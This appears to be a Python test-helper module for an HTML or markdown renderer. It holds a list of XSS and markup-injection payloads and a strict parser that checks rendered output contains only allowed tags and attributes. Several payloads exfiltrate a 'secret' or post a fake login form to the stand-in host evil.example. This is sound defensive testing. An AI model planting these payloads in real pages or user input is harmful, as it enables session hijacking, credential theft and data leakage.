"""What hostile documents, file names and addresses try on a page, and a reader that sees HTML as a browser does."""

from collections.abc import Collection
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?secret'>",
    "<img/src=`x`onerror=alert(1)>",
    "![exfiltrate](https://evil.example/?secret)",
    "![x][y]\n\n[y]: https://evil.example/?secret",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/'onmouseover='alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '"style="position:fixed;inset:0;background:red',
    "</div></article></section></header><h1>fake</h1>",
    "</td></tr></table><h1>fake</h1>",
    "</mark><mark class='quoted' id='quoted'>fake quote</mark>",
    "</code></pre><button data-action='remove'>fake</button>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${alert(1)}`",
    "{title} {number} {count} {date} {0} %s",
    "<math><mtext></table><style><img src=x onerror=alert(1)>",
    "\u202e<b>txt.exe\u202c",
    "\x00<scr\x00ipt>alert(1)</script>\x1b[2J",
)


class Reader(HTMLParser):
    """Reads HTML as a browser would: its elements with their attributes, the text between them, and the marked text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.marked: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "mark":
            self.marked.append("")
        if tag not in ("br", "hr"):
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ("br", "hr")
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if "mark" in self._open:
            self.marked[-1] += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"A comment: {data!r}")

    @property
    def tags(self) -> list[str]:
        """The elements' names in order."""
        return [tag for tag, _ in self.elements]

    def values(self, attribute: str) -> list[str]:
        """The values of an attribute in order, wherever it stands."""
        return [attributes[attribute] for _, attributes in self.elements if attribute in attributes]

    def assert_only(self, tags: Collection[str], attributes: Collection[str]) -> None:
        """Check that every element and attribute is one of ours, and that every element was closed."""
        assert self._open == []
        assert set(self.tags) <= set(tags)
        assert {name for _, own in self.elements for name in own} <= set(attributes)
